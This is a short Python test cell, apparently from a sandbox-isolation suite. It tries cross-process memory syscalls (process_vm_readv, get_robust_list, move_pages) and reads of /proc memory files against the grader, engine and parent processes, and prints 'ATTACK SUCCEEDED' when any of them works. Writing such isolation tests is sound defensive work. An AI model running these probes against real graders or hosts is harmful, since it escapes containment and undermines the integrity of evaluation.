# attacks = "the memory of the grader and of the warm parent, by the calls that read another process's"
# cells = ["ok"]
# %% own
import ctypes, os, platform
libc = ctypes.CDLL(None)
column = 0 if platform.machine() == "x86_64" else 1
room = ctypes.create_string_buffer(64)
vector = (ctypes.c_size_t * 2)(ctypes.addressof(room), 64)
found = ctypes.c_void_p()
for pid in {int("<<ENGINE>>"), int("<<ZYGOTE>>"), os.getppid()} - {0}:
    reads = libc.syscall((310, 270)[column], pid, vector, 1, vector, 1, 0)
    robust = libc.syscall((274, 100)[column], pid, ctypes.byref(found), ctypes.byref(found))
    moved = libc.syscall((279, 239)[column], pid, 1, vector, 0, room, 0)
    if reads > 0 or robust == 0 or moved == 0:
        print("ATTACK " + "SUCCEEDED", pid, reads, robust, moved)
    for name in ("mem", "maps", "auxv", "stack", "syscall", "personality"):
        try:
            open(f"/proc/{pid}/{name}", "rb").read(1)
            print("ATTACK " + "SUCCEEDED", pid, name)
        except OSError:
            pass
